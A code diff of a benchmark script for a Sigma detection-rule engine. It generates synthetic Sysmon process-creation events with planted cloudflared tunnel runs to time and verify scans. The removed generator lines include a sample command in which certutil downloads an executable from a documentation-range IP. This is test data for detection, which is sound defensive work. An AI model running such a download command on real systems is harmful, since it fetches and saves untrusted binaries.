@@ -1,9 +1,9 @@
 """End-to-end ``sigmarrow scan`` throughput from Parquet, against pyarrow alone reading the
 same columns; and the peak memory of the command on a dataset much larger than its batches.
 
-Generates synthetic Sysmon process-creation events (seeded, cached under ``benches/data/``)
-as several zstd Parquet files with planted ``cloudflared.exe`` runs, then times, best of
-``--runs``:
+Generates synthetic Sysmon process-creation events (``generate.py``, seeded, cached under
+``benches/data/``) as several zstd Parquet files with planted ``cloudflared.exe`` runs, then
+times, best of ``--runs``:
 
 - ``pyarrow_read``: ``pyarrow.parquet.ParquetFile.iter_batches`` over every file, reading
   only the columns the rules reference (what the scan reads): the floor for the scan.
@@ -11,7 +11,8 @@ as several zstd Parquet files with planted ``cloudflared.exe`` runs, then times,
   ``hits.parquet``), with the engine on all cores and on one thread. Compiling the rules is
   timed apart.
 
-Rule sets: ``cloudflared`` (SigmaHQ's Cloudflared Portable Execution rule, inline) and, when
+Rule sets: ``cloudflared`` (SigmaHQ's Cloudflared Portable Execution rule, from
+``examples/rules/``) and, when
 the SigmaHQ snapshot is there, ``process_creation`` (every rule of
 ``rules/windows/process_creation``). Answers are checked: the cloudflared hits must be
 exactly the planted rows outside ``Program Files`` (computed while generating); the
@@ -20,7 +21,7 @@ process-creation hits per rule must equal those of ``Matcher.match`` over the sa
 Peak memory: ``sigmarrow scan --columns '*'`` (so that every column is read) runs as a
 child process (``python -m sigmarrow``) over one file and over all files; its peak RSS is
 compared with the in-memory size of the data it reads. The result goes to
-``benches/results/scan-<date>.json``.
+``benches/results/scan-<date>.json`` (``--out`` another folder).
 
     python benches/bench_scan.py                       # 2,000,000 events in 8 files
     python benches/bench_scan.py --events 200000 --files 4 --runs 1
@@ -32,8 +33,6 @@ import argparse
 import datetime as dt
 import json
 import os
-import random
-import shlex
 import subprocess
 import sys
 import tempfile
@@ -44,73 +43,15 @@ from pathlib import Path
 import pyarrow as pa
 import pyarrow.parquet as pq
 import sigmarrow
-from _common import best_of, machine  # benches/ is on sys.path when run as a script
+from _common import EXAMPLE_RULES, REPO, RESULTS, best_of, command_line, find_sigma_dir, machine
+from generate import generate_events
 from sigmarrow.scan import discover_inputs, scan
 
-REPO_DIR = Path(__file__).resolve().parents[1]
-SIGMA_DIR = Path(os.environ.get("SIGMARROW_SIGMA_DIR", REPO_DIR.parent / "shared" / "sigma"))
-PROCESS_CREATION = SIGMA_DIR / "rules" / "windows" / "process_creation"
-DATA_DIR = REPO_DIR / "benches" / "data"
-RESULTS_DIR = REPO_DIR / "benches" / "results"
+DATA_DIR = REPO / "benches" / "data"
+CLOUDFLARED_RULE = EXAMPLE_RULES / "proc_creation_win_cloudflared_portable_execution.yml"
 
-CLOUDFLARED_RULE = (REPO_DIR / "examples/rules/proc_creation_win_cloudflared_portable_execution.yml").read_text()
-
-# --- synthetic events --------------------------------------------------------------------
-
-SYS32 = "C:\\Windows\\System32\\"
-USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM"]
-BENIGN = [
-    (
-        SYS32 + "svchost.exe",
-        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}",
-        SYS32 + "services.exe",
-    ),
-    (
-        SYS32 + "conhost.exe",
-        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff",
-        SYS32 + "cmd.exe",
-    ),
-    (
-        SYS32 + "cmd.exe",
-        "C:\\Windows\\system32\\cmd.exe /c dir C:\\temp\\out{n}",
-        "C:\\Windows\\explorer.exe",
-    ),
-    (
-        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-        (
-            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
-            "--renderer-client-id={n}"
-        ),
-        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-    ),
-    (
-        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
-        "powershell.exe -NoProfile -File C:\\scripts\\inventory{n}.ps1",
-        "C:\\Windows\\explorer.exe",
-    ),
-    (
-        SYS32 + "notepad.exe",
-        '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\alice\\n{n}.txt',
-        "C:\\Windows\\explorer.exe",
-    ),
-    (SYS32 + "git.exe", "git.exe fetch origin --prune", SYS32 + "cmd.exe"),
-    (
-        SYS32 + "wbem\\WmiPrvSE.exe",
-        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
-        SYS32 + "svchost.exe",
-    ),
-]
-# Matched by a few SigmaHQ process-creation rules: one event in a hundred.
-SUSPICIOUS = [
-    (SYS32 + "whoami.exe", "whoami /priv", SYS32 + "cmd.exe"),
-    (
-        SYS32 + "certutil.exe",
-        "certutil.exe -urlcache -split -f http://203.0.113.{m}/a.exe a.exe",
-        SYS32 + "cmd.exe",
-    ),
-]
-SUSPICIOUS_SHARE = 0.01
-CLOUDFLARED = [  # (Image, is a hit of the portable-execution rule)
+# Planted among the generated events: (Image, is a hit of the portable-execution rule).
+CLOUDFLARED = [
     ("C:\\Users\\alice\\Downloads\\cloudflared.exe", True),
     ("c:\\users\\bob\\appdata\\local\\temp\\CLOUDFLARED.EXE", True),
     ("C:\\Program Files\\cloudflared\\cloudflared.exe", False),
@@ -120,74 +61,29 @@ PLANT_EVERY = 9_973  # a prime: planted rows fall at varied positions in batches
 
 
 def generate(events: int, files: int, seed: int) -> tuple[Path, int]:
-    """The dataset folder and the number of planted cloudflared hits (cached on disk)."""
-    folder = DATA_DIR / f"scan-v3-{events}-{files}-{seed}"
+    """The dataset folder and the number of planted cloudflared hits (cached on disk).
+    The events come from ``generate.py`` (benign only: a positive planted for another rule
+    could be a cloudflared hit too), with cloudflared runs fixed every PLANT_EVERY rows."""
+    folder = DATA_DIR / f"scan-v4-{events}-{files}-{seed}"
     answer = folder / "_expected.json"
     if answer.is_file():
         return folder, json.loads(answer.read_text())["cloudflared_hits"]
+    fixed, hits = {}, 0
+    for k, row in enumerate(range(PLANT_EVERY - 1, events, PLANT_EVERY)):
+        image, hit = CLOUDFLARED[k % len(CLOUDFLARED)]
+        fixed[row] = {"Image": image, "OriginalFileName": "cloudflared.exe",
+                      "CommandLine": f'"{image}" tunnel run --token x{row}',
+                      "ParentImage": "C:\\Windows\\System32\\cmd.exe"}
+        hits += hit
+    table, _ = generate_events(events, seed, fixed=fixed)
     folder.mkdir(parents=True, exist_ok=True)
-    rng = random.Random(seed)
-    base = dt.datetime(2026, 11, 1)
     per_file = -(-events // files)
-    hits = 0
-    row = 0
     for index in range(files):
-        n = min(per_file, events - row)
-        cols: dict[str, list] = {
-            k: []
-            for k in (
-                "EventID",
-                "UtcTime",
-                "Computer",
-                "User",
-                "ProcessId",
-                "Image",
-                "OriginalFileName",
-                "CommandLine",
-                "CurrentDirectory",
-                "IntegrityLevel",
-                "Hashes",
-                "ParentProcessId",
-                "ParentImage",
-                "ParentCommandLine",
-            )
-        }
-        for _ in range(n):
-            if row % PLANT_EVERY == PLANT_EVERY - 1:
-                image, hit = CLOUDFLARED[(row // PLANT_EVERY) % len(CLOUDFLARED)]
-                cmd, parent = f'"{image}" tunnel run --token x{row}', SYS32 + "cmd.exe"
-                hits += hit
-            else:
-                pool = SUSPICIOUS if rng.random() < SUSPICIOUS_SHARE else BENIGN
-                image, template, parent = rng.choice(pool)
-                cmd = template.format(
-                    n=rng.randrange(100000),
-                    m=rng.randrange(1, 255),
-                    svc=rng.choice(["Schedule", "BITS", "Winmgmt"]),
-                )
-            cols["EventID"].append(1)
-            cols["UtcTime"].append(
-                (base + dt.timedelta(milliseconds=37 * row)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
-            )
-            cols["Computer"].append(f"ws{rng.randrange(500):04d}.corp.example")
-            cols["User"].append(rng.choice(USERS))
-            cols["ProcessId"].append(rng.randrange(100, 65000))
-            cols["Image"].append(image)
-            cols["OriginalFileName"].append(image.rsplit("\\", 1)[1])
-            cols["CommandLine"].append(cmd)
-            cols["CurrentDirectory"].append("C:\\Windows\\system32\\")
-            cols["IntegrityLevel"].append(rng.choice(["Medium", "High", "System"]))
-            cols["Hashes"].append(f"SHA256={rng.getrandbits(256):064X}")
-            cols["ParentProcessId"].append(rng.randrange(100, 65000))
-            cols["ParentImage"].append(parent)
-            cols["ParentCommandLine"].append(parent)
-            row += 1
-        ints = {"EventID": pa.int64(), "ProcessId": pa.int64(), "ParentProcessId": pa.int64()}
-        table = pa.table({k: pa.array(v, ints.get(k, pa.string())) for k, v in cols.items()})
+        part = table.slice(index * per_file, per_file)
         pq.write_table(
-            table, folder / f"part-{index:05d}.parquet", compression="zstd", row_group_size=131_072
+            part, folder / f"part-{index:05d}.parquet", compression="zstd", row_group_size=131_072
         )
-        print(f"  generated {folder.name}/part-{index:05d}.parquet ({n:,} rows)", flush=True)
+        print(f"  generated {folder.name}/part-{index:05d}.parquet ({part.num_rows:,} rows)", flush=True)
     answer.write_text(json.dumps({"cloudflared_hits": hits, "events": events}))
     return folder, hits
 
@@ -335,11 +231,14 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument(
         "--rules",
         type=Path,
-        default=PROCESS_CREATION,
-        help="folder of the large rule set (default: SigmaHQ process_creation)",
+        help="folder of the large rule set (default: SigmaHQ rules/windows/process_creation)",
     )
     parser.add_argument("--no-memory", action="store_true", help="skip the peak-memory runs")
+    parser.add_argument("--out", type=Path, default=RESULTS, help="folder of the results file")
     args = parser.parse_args(argv)
+    sigma_dir = find_sigma_dir()
+    if args.rules is None and sigma_dir is not None:
+        args.rules = sigma_dir / "rules" / "windows" / "process_creation"
 
     print(f"dataset: {args.events:,} events in {args.files} files", flush=True)
     folder, planted = generate(args.events, args.files, args.seed)
@@ -347,13 +246,7 @@ def main(argv: list[str] | None = None) -> int:
     report: dict = {
         "benchmark": "scan",
         "date": dt.date.today().isoformat(),
-        "command": " ".join(
-            [
-                "python",
-                os.path.relpath(__file__, REPO_DIR),
-                *map(shlex.quote, sys.argv[1:] if argv is None else argv),
-            ]
-        ),
+        "command": command_line("bench_scan.py", argv),
         "machine": machine(),
         "versions": {
             "sigmarrow": getattr(sigmarrow, "__version__", "?"),
@@ -371,12 +264,11 @@ def main(argv: list[str] | None = None) -> int:
     }
     with tempfile.TemporaryDirectory(prefix="sigmarrow-bench-") as tmp:
         work = Path(tmp)
-        rule = work / "cloudflared.yml"
-        rule.write_text(CLOUDFLARED_RULE)
+        rule = CLOUDFLARED_RULE
         report["rule_sets"]["cloudflared"] = bench_rule_set(
             "cloudflared", [str(rule)], files, check_cloudflared(planted), args.runs, work
         )
-        if args.rules.is_dir():
+        if args.rules is not None and args.rules.is_dir():
             report["rule_sets"]["process_creation"] = bench_rule_set(
                 "process_creation",
                 [str(args.rules)],
@@ -423,8 +315,8 @@ def main(argv: list[str] | None = None) -> int:
                 )
             report["memory"] = memory
 
-    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
-    path = RESULTS_DIR / f"scan-{report['date']}.json"
+    args.out.mkdir(parents=True, exist_ok=True)
+    path = args.out / f"scan-{report['date']}.json"
     path.write_text(json.dumps(report, indent=2) + "\n")
     print(f"wrote {os.path.relpath(path)}")
     return 0
